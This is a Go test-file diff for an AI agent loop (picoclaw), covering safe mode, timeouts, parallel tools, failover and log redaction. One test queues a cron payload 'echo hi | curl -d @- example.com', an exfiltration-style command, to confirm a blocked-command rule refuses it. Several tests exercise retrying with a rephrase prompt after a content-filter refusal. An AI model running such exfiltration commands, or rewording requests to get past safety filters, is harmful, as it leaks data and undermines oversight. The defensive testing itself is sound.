@@ -2,14 +2,22 @@ package agent
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/sipeed/picoclaw/pkg/bus"
 	"github.com/sipeed/picoclaw/pkg/config"
+	"github.com/sipeed/picoclaw/pkg/cron"
+	"github.com/sipeed/picoclaw/pkg/failover"
 	"github.com/sipeed/picoclaw/pkg/providers"
+	"github.com/sipeed/picoclaw/pkg/state"
 	"github.com/sipeed/picoclaw/pkg/tools"
 )
 
@@ -200,6 +208,67 @@ func TestToolRegistry_ToolRegistration(t *testing.T) {
 	}
 }
 
+func TestSafeMode_ExcludesDangerousTools(t *testing.T) {
+	cfg := &config.Config{
+		Agents: config.AgentsConfig{
+			Defaults: config.AgentDefaults{
+				Workspace:         t.TempDir(),
+				Model:             "test-model",
+				MaxTokens:         4096,
+				MaxToolIterations: 10,
+			},
+		},
+		Tools: config.ToolsConfig{SafeMode: true},
+	}
+	al := NewAgentLoop(cfg, bus.NewMessageBus(), &mockProvider{})
+
+	for _, name := range []string{"exec", "write_file", "edit_file", "append_file", "memory", "i2c", "spi", "cleanup_cache", "usage_export"} {
+		if _, ok := al.tools.Get(name); ok {
+			t.Errorf("%s registered in safe mode", name)
+		}
+	}
+	for _, name := range []string{"read_file", "list_dir", "web_fetch", "message"} {
+		if _, ok := al.tools.Get(name); !ok {
+			t.Errorf("%s missing in safe mode", name)
+		}
+	}
+	if al.ExecTool() != nil {
+		t.Error("ExecTool() should be nil in safe mode, so cron cannot run commands")
+	}
+}
+
+func TestExecTool_BlockedCommandRefusedAsCronPayload(t *testing.T) {
+	cfg := &config.Config{
+		Agents: config.AgentsConfig{
+			Defaults: config.AgentDefaults{
+				Workspace:         t.TempDir(),
+				Model:             "test-model",
+				MaxTokens:         4096,
+				MaxToolIterations: 10,
+			},
+		},
+		Tools: config.ToolsConfig{Exec: config.ExecToolsConfig{BlockedCommands: []string{"curl"}}},
+	}
+	msgBus := bus.NewMessageBus()
+	al := NewAgentLoop(cfg, msgBus, &mockProvider{})
+
+	cs := cron.NewCronService(filepath.Join(t.TempDir(), "jobs.json"), nil)
+	at := time.Now().Add(time.Minute).UnixMilli()
+	job, err := cs.AddJob("exfil", cron.CronSchedule{Kind: "at", AtMS: &at}, "exfil", false, "telegram", "1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	job.Payload.Command = "echo hi | curl -d @- example.com"
+
+	tools.NewCronTool(cs, al, msgBus, al.ExecTool()).ExecuteJob(context.Background(), job)
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	out, ok := msgBus.SubscribeOutbound(ctx)
+	if !ok || !strings.Contains(out.Content, "curl is a blocked command") {
+		t.Fatalf("outbound = %+v, want the blocked command refused", out)
+	}
+}
+
 // TestToolContext_Updates verifies tool context is updated with channel/chatID
 func TestToolContext_Updates(t *testing.T) {
 	tmpDir, err := os.MkdirTemp("", "agent-test-*")
@@ -322,6 +391,39 @@ func TestAgentLoop_GetStartupInfo(t *testing.T) {
 	}
 }
 
+func TestStartupInfoTool_ReflectsRegistryAndSkills(t *testing.T) {
+	al := newRefusalTestLoop(t, &mockProvider{}, false)
+	skillDir := filepath.Join(al.workspace, "skills", "weather-brief")
+	if err := os.MkdirAll(skillDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(skillDir, "SKILL.md"), []byte("---\nname: weather-brief\n---\nSay the weather."), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	al.contextBuilder.ReloadSkills()
+	al.RegisterTool(&mockCustomTool{})
+
+	result := al.tools.Execute(context.Background(), "startup_info", nil)
+	if result.IsError {
+		t.Fatalf("startup_info failed: %s", result.ForLLM)
+	}
+
+	info := al.GetStartupInfo()
+	toolCount := info["tools"].(map[string]interface{})["count"].(int)
+	skillCount := info["skills"].(map[string]interface{})["total"].(int)
+	for _, want := range []string{
+		fmt.Sprintf("Tools (%d):", toolCount),
+		"mock_custom",
+		"startup_info",
+		fmt.Sprintf("Skills (%d):", skillCount),
+		"weather-brief",
+	} {
+		if !strings.Contains(result.ForLLM, want) {
+			t.Errorf("startup_info output missing %q:\n%s", want, result.ForLLM)
+		}
+	}
+}
+
 // TestAgentLoop_Stop verifies Stop() sets running to false
 func TestAgentLoop_Stop(t *testing.T) {
 	tmpDir, err := os.MkdirTemp("", "agent-test-*")
@@ -572,3 +674,593 @@ func TestShouldPublishProgress(t *testing.T) {
 		})
 	}
 }
+
+// blockingProvider simulates a turn that never finishes on its own.
+type blockingProvider struct{}
+
+func (p *blockingProvider) Chat(ctx context.Context, messages []providers.Message, tools []providers.ToolDefinition, model string, opts map[string]interface{}) (*providers.LLMResponse, error) {
+	<-ctx.Done()
+	return nil, ctx.Err()
+}
+
+func (p *blockingProvider) GetDefaultModel() string {
+	return "blocking-model"
+}
+
+func newTimeoutTestLoop(t *testing.T) *AgentLoop {
+	t.Helper()
+	cfg := &config.Config{
+		Agents: config.AgentsConfig{
+			Defaults: config.AgentDefaults{
+				Workspace:         t.TempDir(),
+				Model:             "test-model",
+				MaxTokens:         4096,
+				MaxToolIterations: 10,
+			},
+		},
+	}
+	al := NewAgentLoop(cfg, bus.NewMessageBus(), &blockingProvider{})
+	al.requestTimeout = 50 * time.Millisecond
+	return al
+}
+
+func TestProcessMessage_RequestTimeout(t *testing.T) {
+	al := newTimeoutTestLoop(t)
+	msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1", Content: "do something slow"}
+
+	start := time.Now()
+	resp, err := al.processMessage(context.Background(), msg)
+	if err != nil {
+		t.Fatalf("processMessage() error = %v, want timeout response", err)
+	}
+	if elapsed := time.Since(start); elapsed > 5*time.Second {
+		t.Fatalf("request took %v, deadline not applied", elapsed)
+	}
+	if !strings.Contains(resp, "timed out") {
+		t.Fatalf("response = %q, want user-facing timeout message", resp)
+	}
+	history := al.sessions.GetHistory("telegram:1")
+	if len(history) != 2 || history[1].Role != "assistant" {
+		t.Fatalf("timeout response should be saved to history, got %+v", history)
+	}
+}
+
+func TestProcessMessage_StopStillCancelsWithDeadline(t *testing.T) {
+	al := newTimeoutTestLoop(t)
+	al.requestTimeout = time.Minute
+	msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1", Content: "do something slow"}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	time.AfterFunc(20*time.Millisecond, cancel) // simulates /stop
+
+	_, err := al.processMessage(ctx, msg)
+	if err == nil || ctx.Err() != context.Canceled {
+		t.Fatalf("processMessage() error = %v, want cancellation error", err)
+	}
+}
+
+func TestRun_ClearCancelsRequestRegisteredUnderSessionKey(t *testing.T) {
+	al := newTimeoutTestLoop(t)
+	al.requestTimeout = time.Minute
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	go al.Run(ctx)
+
+	// The session key deliberately differs from "channel:chatID".
+	msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1:topic", Content: "do something slow"}
+	al.bus.PublishInbound(msg)
+
+	deadline := time.Now().Add(5 * time.Second)
+	for {
+		if _, ok := al.activeCancel.Load("telegram:1:topic"); ok {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("in-flight request not registered under its session key")
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+
+	msg.Content = "/clear confirm"
+	al.handleClearCommand(msg, msg.Content)
+	if _, ok := al.activeCancel.Load("telegram:1:topic"); ok {
+		t.Fatal("/clear did not cancel the in-flight request")
+	}
+}
+
+// refusingProvider returns content-filter refusals for the first `refusals`
+// calls, then a normal answer.
+type refusingProvider struct {
+	refusals int
+	asError  bool
+	calls    int
+	lastMsgs []providers.Message
+}
+
+func (p *refusingProvider) Chat(ctx context.Context, messages []providers.Message, tools []providers.ToolDefinition, model string, opts map[string]interface{}) (*providers.LLMResponse, error) {
+	p.calls++
+	p.lastMsgs = messages
+	if p.calls <= p.refusals {
+		if p.asError {
+			return nil, &providers.ContentFilterError{StatusCode: 400, Body: `{"error":{"code":"content_filter"}}`}
+		}
+		return &providers.LLMResponse{FinishReason: "content_filter"}, nil
+	}
+	return &providers.LLMResponse{Content: "Here is a safe answer.", FinishReason: "stop"}, nil
+}
+
+func (p *refusingProvider) GetDefaultModel() string {
+	return "refusing-model"
+}
+
+func newRefusalTestLoop(t *testing.T, provider providers.LLMProvider, retry bool) *AgentLoop {
+	t.Helper()
+	cfg := &config.Config{
+		Agents: config.AgentsConfig{
+			Defaults: config.AgentDefaults{
+				Workspace:          t.TempDir(),
+				Model:              "test-model",
+				MaxTokens:          4096,
+				MaxToolIterations:  10,
+				ContentFilterRetry: retry,
+			},
+		},
+	}
+	return NewAgentLoop(cfg, bus.NewMessageBus(), provider)
+}
+
+func TestProcessMessage_ContentFilterRefusal(t *testing.T) {
+	provider := &refusingProvider{refusals: 1}
+	al := newRefusalTestLoop(t, provider, false)
+	msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1", Content: "something borderline"}
+
+	resp, err := al.processMessage(context.Background(), msg)
+	if err != nil {
+		t.Fatalf("processMessage() error = %v", err)
+	}
+	if resp != contentFilterMessage {
+		t.Fatalf("response = %q, want content-filter message", resp)
+	}
+	if provider.calls != 1 {
+		t.Fatalf("provider called %d times, want no retry when disabled", provider.calls)
+	}
+}
+
+func TestProcessMessage_ContentFilterRejectionError(t *testing.T) {
+	al := newRefusalTestLoop(t, &refusingProvider{refusals: 1, asError: true}, false)
+	msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1", Content: "something borderline"}
+
+	resp, err := al.processMessage(context.Background(), msg)
+	if err != nil {
+		t.Fatalf("processMessage() error = %v, want refusal message", err)
+	}
+	if resp != contentFilterMessage {
+		t.Fatalf("response = %q, want content-filter message", resp)
+	}
+}
+
+func TestProcessMessage_ContentFilterRetriesOnce(t *testing.T) {
+	provider := &refusingProvider{refusals: 1}
+	al := newRefusalTestLoop(t, provider, true)
+	msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1", Content: "something borderline"}
+
+	resp, err := al.processMessage(context.Background(), msg)
+	if err != nil {
+		t.Fatalf("processMessage() error = %v", err)
+	}
+	if resp != "Here is a safe answer." {
+		t.Fatalf("response = %q, want retried answer", resp)
+	}
+	last := provider.lastMsgs[len(provider.lastMsgs)-1]
+	if last.Content != contentFilterRetryPrompt {
+		t.Fatalf("retry should carry the rephrase instruction, last message = %+v", last)
+	}
+
+	// A second refusal after the retry is surfaced rather than retried again.
+	provider = &refusingProvider{refusals: 2}
+	al = newRefusalTestLoop(t, provider, true)
+	resp, _ = al.processMessage(context.Background(), msg)
+	if resp != contentFilterMessage || provider.calls != 2 {
+		t.Fatalf("response = %q after %d calls, want refusal message after one retry", resp, provider.calls)
+	}
+}
+
+// toolCallingProvider requests the given tool calls once, then answers.
+type toolCallingProvider struct {
+	toolCalls []providers.ToolCall
+	calls     int
+	lastMsgs  []providers.Message
+}
+
+func (p *toolCallingProvider) Chat(ctx context.Context, messages []providers.Message, tools []providers.ToolDefinition, model string, opts map[string]interface{}) (*providers.LLMResponse, error) {
+	p.calls++
+	p.lastMsgs = messages
+	if p.calls == 1 {
+		return &providers.LLMResponse{ToolCalls: p.toolCalls, FinishReason: "tool_calls"}, nil
+	}
+	return &providers.LLMResponse{Content: "done", FinishReason: "stop"}, nil
+}
+
+func (p *toolCallingProvider) GetDefaultModel() string {
+	return "tool-model"
+}
+
+// rendezvousTool is parallel-safe and only succeeds when `want` calls are
+// running at the same time.
+type rendezvousTool struct {
+	name    string
+	want    int32
+	arrived atomic.Int32
+	all     chan struct{}
+}
+
+func newRendezvousTool(name string, want int32) *rendezvousTool {
+	return &rendezvousTool{name: name, want: want, all: make(chan struct{})}
+}
+
+func (r *rendezvousTool) Name() string {
+	return r.name
+}
+
+func (r *rendezvousTool) Description() string {
+	return "test tool"
+}
+
+func (r *rendezvousTool) Parameters() map[string]interface{} {
+	return map[string]interface{}{"type": "object"}
+}
+
+func (r *rendezvousTool) ParallelSafe() bool {
+	return true
+}
+
+func (r *rendezvousTool) Execute(ctx context.Context, args map[string]interface{}) *tools.ToolResult {
+	if r.arrived.Add(1) == r.want {
+		close(r.all)
+	}
+	select {
+	case <-r.all:
+		return tools.SilentResult(fmt.Sprintf("%s:%v", r.name, args["id"]))
+	case <-time.After(2 * time.Second):
+		return tools.ErrorResult("ran sequentially")
+	}
+}
+
+// recordingTool is not parallel-safe and notes the order it ran in.
+type recordingTool struct {
+	mu  sync.Mutex
+	ran []string
+}
+
+func (r *recordingTool) Name() string {
+	return "mutate"
+}
+
+func (r *recordingTool) Description() string {
+	return "test tool"
+}
+
+func (r *recordingTool) Parameters() map[string]interface{} {
+	return map[string]interface{}{"type": "object"}
+}
+
+func (r *recordingTool) Execute(ctx context.Context, args map[string]interface{}) *tools.ToolResult {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.ran = append(r.ran, fmt.Sprint(args["id"]))
+	return tools.SilentResult(fmt.Sprintf("mutate:%v", args["id"]))
+}
+
+func TestRunLLMIteration_ParallelSafeToolsRunConcurrentlyInOrder(t *testing.T) {
+	reader := newRendezvousTool("reader", 3)
+	mutate := &recordingTool{}
+	provider := &toolCallingProvider{toolCalls: []providers.ToolCall{
+		{ID: "c1", Name: "reader", Arguments: map[string]interface{}{"id": 1}},
+		{ID: "c2", Name: "reader", Arguments: map[string]interface{}{"id": 2}},
+		{ID: "c3", Name: "reader", Arguments: map[string]interface{}{"id": 3}},
+		{ID: "c4", Name: "mutate", Arguments: map[string]interface{}{"id": 4}},
+		{ID: "c5", Name: "mutate", Arguments: map[string]interface{}{"id": 5}},
+	}}
+	al := newRefusalTestLoop(t, provider, false)
+	al.RegisterTool(reader)
+	al.RegisterTool(mutate)
+
+	msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1", Content: "read then write"}
+	if _, err := al.processMessage(context.Background(), msg); err != nil {
+		t.Fatalf("processMessage() error = %v", err)
+	}
+
+	var got []string
+	for _, m := range provider.lastMsgs {
+		if m.Role == "tool" {
+			got = append(got, m.ToolCallID+"="+m.Content)
+		}
+	}
+	want := []string{"c1=reader:1", "c2=reader:2", "c3=reader:3", "c4=mutate:4", "c5=mutate:5"}
+	if strings.Join(got, ",") != strings.Join(want, ",") {
+		t.Fatalf("tool results = %v, want %v", got, want)
+	}
+	if strings.Join(mutate.ran, ",") != "4,5" {
+		t.Fatalf("mutating tool ran as %v, want sequential call order", mutate.ran)
+	}
+}
+
+func TestToolRegistry_IsParallelSafe(t *testing.T) {
+	al := newRefusalTestLoop(t, &mockProvider{}, false)
+	al.RegisterTool(&recordingTool{})
+	for name, want := range map[string]bool{
+		"read_file":  true,
+		"web_fetch":  true,
+		"write_file": false,
+		"exec":       false,
+		"message":    false, // contextual
+		"mutate":     false,
+		"missing":    false,
+	} {
+		if got := al.tools.IsParallelSafe(name); got != want {
+			t.Errorf("IsParallelSafe(%q) = %v, want %v", name, got, want)
+		}
+	}
+}
+
+func TestSessionToolHistory_CompactOmitsToolMessages(t *testing.T) {
+	for _, compact := range []bool{false, true} {
+		provider := &toolCallingProvider{toolCalls: []providers.ToolCall{
+			{ID: "c1", Name: "mock_custom", Arguments: map[string]interface{}{}},
+		}}
+		al := newRefusalTestLoop(t, provider, false)
+		al.compactTools = compact
+		al.RegisterTool(&mockCustomTool{})
+
+		msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SenderID: "u", SessionKey: "telegram:1", Content: "run it"}
+		if _, err := al.processMessage(context.Background(), msg); err != nil {
+			t.Fatalf("compact=%v: processMessage() error: %v", compact, err)
+		}
+
+		history := al.sessions.GetHistory("telegram:1")
+		var toolMsgs int
+		var sawResult bool
+		for _, m := range history {
+			if m.Role == "tool" || len(m.ToolCalls) > 0 {
+				toolMsgs++
+			}
+			if strings.Contains(m.Content, "Custom tool executed") {
+				sawResult = true
+			}
+		}
+		last := history[len(history)-1]
+
+		if compact {
+			if toolMsgs != 0 || sawResult {
+				t.Errorf("compact history kept tool detail: %+v", history)
+			}
+			if len(history) != 2 || last.Content != "done\n\n[Tools used: mock_custom]" {
+				t.Errorf("compact history = %+v, want user message and annotated reply", history)
+			}
+		} else {
+			if toolMsgs != 2 || !sawResult {
+				t.Errorf("full history missing tool detail: %+v", history)
+			}
+			if last.Content != "done" {
+				t.Errorf("full history reply = %q, want %q", last.Content, "done")
+			}
+		}
+	}
+}
+
+func TestFailoverProbe_SkippedWhileAnotherInstanceHoldsLock(t *testing.T) {
+	workspace := t.TempDir()
+	// Another instance sharing the workspace: degraded onto the fallback,
+	// so a probe of the primary is due, and currently probing.
+	other := state.NewManager(workspace)
+	if err := other.SetFailoverState(state.FailoverState{Mode: "degraded", PrimaryModel: "test-model", ActiveModel: "fallback-model"}); err != nil {
+		t.Fatal(err)
+	}
+	release, ok := other.TryLock("failover_probe", time.Minute)
+	if !ok {
+		t.Fatal("TryLock() failed")
+	}
+
+	cfg := &config.Config{
+		Agents: config.AgentsConfig{
+			Defaults: config.AgentDefaults{
+				Workspace:         workspace,
+				Model:             "test-model",
+				FallbackModels:    []string{"fallback-model"},
+				MaxTokens:         4096,
+				MaxToolIterations: 10,
+			},
+			Failover: config.AgentFailover{Enabled: true, ProbeLockStaleSeconds: 60},
+		},
+	}
+	al := NewAgentLoop(cfg, bus.NewMessageBus(), &mockProvider{})
+	if !al.failoverMgr.ShouldProbe(time.Now()) {
+		t.Fatal("expected a probe to be due")
+	}
+
+	al.maybeRunFailoverProbe()
+	if al.probeRunning.Load() || !al.failoverMgr.Snapshot().LastProbeAt.IsZero() {
+		t.Fatal("probe ran while another instance held the lock")
+	}
+
+	release()
+	al.maybeRunFailoverProbe()
+	deadline := time.Now().Add(25 * time.Second)
+	for al.probeRunning.Load() && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+	if al.failoverMgr.Snapshot().LastProbeAt.IsZero() {
+		t.Error("probe did not run after the lock was released")
+	}
+}
+
+func TestShutdown_CancelsRequestsAndPersistsSessions(t *testing.T) {
+	al := newCommandTestLoop(t)
+	al.sessions.AddMessage("telegram:1", "user", "unsaved")
+
+	cancelled := false
+	al.activeCancel.Store("telegram:1", context.CancelFunc(func() { cancelled = true }))
+
+	// A summarization that outlives the deadline must not block shutdown.
+	al.summaries.Add(1)
+	defer al.summaries.Done()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
+	defer cancel()
+
+	err := al.Shutdown(ctx)
+	if err == nil || !strings.Contains(err.Error(), "summarizations still running") {
+		t.Errorf("Shutdown() error = %v, want the summarization timeout", err)
+	}
+	if !cancelled {
+		t.Error("Shutdown() did not cancel the active request")
+	}
+	if _, ok := al.activeCancel.Load("telegram:1"); ok {
+		t.Error("Shutdown() left the cancelled request registered")
+	}
+	if _, err := os.Stat(filepath.Join(al.workspace, "sessions", "telegram_1.json")); err != nil {
+		t.Errorf("session not persisted at shutdown: %v", err)
+	}
+}
+
+func TestNotifyFailoverSwitch_OncePerChatPerEpoch(t *testing.T) {
+	workspace := t.TempDir()
+	if err := state.NewManager(workspace).SetFailoverState(state.FailoverState{Mode: "degraded", PrimaryModel: "test-model", ActiveModel: "fallback-model", SwitchEpoch: 3}); err != nil {
+		t.Fatal(err)
+	}
+	cfg := &config.Config{
+		Agents: config.AgentsConfig{
+			Defaults: config.AgentDefaults{
+				Workspace:         workspace,
+				Model:             "test-model",
+				FallbackModels:    []string{"fallback-model"},
+				MaxTokens:         4096,
+				MaxToolIterations: 10,
+			},
+			Failover: config.AgentFailover{Enabled: true, NotifyOnSwitch: true},
+		},
+	}
+	msgBus := bus.NewMessageBus()
+	al := NewAgentLoop(cfg, msgBus, &mockProvider{})
+
+	event := failover.SwitchEvent{FromModel: "test-model", ToModel: "fallback-model", Switched: true}
+	al.notifyFailoverSwitch("telegram", "1", event)
+	al.notifyFailoverSwitch("telegram", "1", event)
+	al.notifyFailoverSwitch("telegram", "2", event)
+
+	var chats []string
+	for {
+		ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
+		msg, ok := msgBus.SubscribeOutbound(ctx)
+		cancel()
+		if !ok {
+			break
+		}
+		chats = append(chats, msg.ChatID)
+	}
+	if !slices.Equal(chats, []string{"1", "2"}) {
+		t.Errorf("notified chats = %v, want [1 2]", chats)
+	}
+}
+
+func TestNotifyFallbackUse_OncePerChat(t *testing.T) {
+	workspace := t.TempDir()
+	if err := state.NewManager(workspace).SetFailoverState(state.FailoverState{
+		Mode:         "degraded",
+		PrimaryModel: "test-model",
+		ActiveModel:  "fallback-model",
+		NextProbeAt:  time.Now().Add(time.Hour),
+		SwitchEpoch:  2,
+	}); err != nil {
+		t.Fatal(err)
+	}
+	cfg := &config.Config{
+		Agents: config.AgentsConfig{
+			Defaults: config.AgentDefaults{
+				Workspace:         workspace,
+				Model:             "test-model",
+				FallbackModels:    []string{"fallback-model"},
+				MaxTokens:         4096,
+				MaxToolIterations: 10,
+			},
+			Failover: config.AgentFailover{Enabled: true, NotifyOnFallbackUse: true},
+		},
+	}
+	msgBus := bus.NewMessageBus()
+	al := NewAgentLoop(cfg, msgBus, &mockProvider{})
+	al.failoverMgr.SetProviderForModel("fallback-model", &mockProvider{})
+
+	for i := 0; i < 2; i++ {
+		msg := bus.InboundMessage{Channel: "telegram", ChatID: "1", SessionKey: "telegram:1", Content: "hello"}
+		if _, err := al.processMessage(context.Background(), msg); err != nil {
+			t.Fatalf("processMessage() error: %v", err)
+		}
+	}
+
+	var notices []string
+	for {
+		ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
+		msg, ok := msgBus.SubscribeOutbound(ctx)
+		cancel()
+		if !ok {
+			break
+		}
+		notices = append(notices, msg.Content)
+	}
+	if len(notices) != 1 || !strings.Contains(notices[0], "fallback model fallback-model") {
+		t.Errorf("notices = %q, want one fallback-use notice", notices)
+	}
+}
+
+func TestFormatMessagesForLog_RedactsSecretEnv(t *testing.T) {
+	registry := tools.NewToolRegistry()
+	execTool := tools.NewExecTool(t.TempDir(), false)
+	execTool.SetEnv(nil, []string{"API_TOKEN"})
+	registry.Register(execTool)
+
+	messages := []providers.Message{{
+		Role: "assistant",
+		ToolCalls: []providers.ToolCall{
+			{ID: "1", Type: "function", Function: &providers.FunctionCall{
+				Name:      "exec",
+				Arguments: `{"command":"deploy","env":{"API_TOKEN":"tok-123","MODE":"prod"}}`,
+			}},
+			{ID: "2", Name: "exec", Arguments: map[string]interface{}{
+				"command": "deploy",
+				"env":     map[string]interface{}{"API_TOKEN": "tok-456"},
+			}},
+		},
+	}}
+	got := formatMessagesForLog(messages, registry.RedactedArgs)
+	if strings.Contains(got, "tok-123") || strings.Contains(got, "tok-456") {
+		t.Fatalf("secret leaked into the request log:\n%s", got)
+	}
+	if !strings.Contains(got, "[redacted]") || !strings.Contains(got, "prod") {
+		t.Fatalf("expected redacted secret and other values kept:\n%s", got)
+	}
+}
+
+func TestUsageProvider_PricesEveryConfiguredProvider(t *testing.T) {
+	cfg := config.DefaultConfig()
+	cfg.Agents.Defaults.Workspace = t.TempDir()
+	cfg.Agents.Defaults.Model = "llama-3.3-70b"
+	cfg.Agents.Defaults.Provider = "groq"
+	cfg.Providers.Groq = config.ProviderConfig{APIKey: "k", InputPricePerMTok: 0.5, OutputPricePerMTok: 1}
+	cfg.Providers.OpenRouter = config.ProviderConfig{APIKey: "k", InputPricePerMTok: 3, OutputPricePerMTok: 15}
+	cfg.Providers.Moonshot = config.ProviderConfig{APIKey: "k", InputPricePerMTok: 1, OutputPricePerMTok: 2}
+	al := NewAgentLoop(cfg, bus.NewMessageBus(), &mockProvider{})
+
+	prices := usagePricesFromConfig(cfg)
+	for model, want := range map[string]string{
+		"llama-3.3-70b":               "groq",
+		"anthropic/claude-sonnet-4.5": "openrouter",
+		"kimi-k2":                     "moonshot",
+	} {
+		got := al.usageProvider(model)
+		if got != want {
+			t.Errorf("usageProvider(%q) = %q, want %q", model, got, want)
+		}
+		if !prices[got].Configured() {
+			t.Errorf("no price for provider %q", got)
+		}
+	}
+}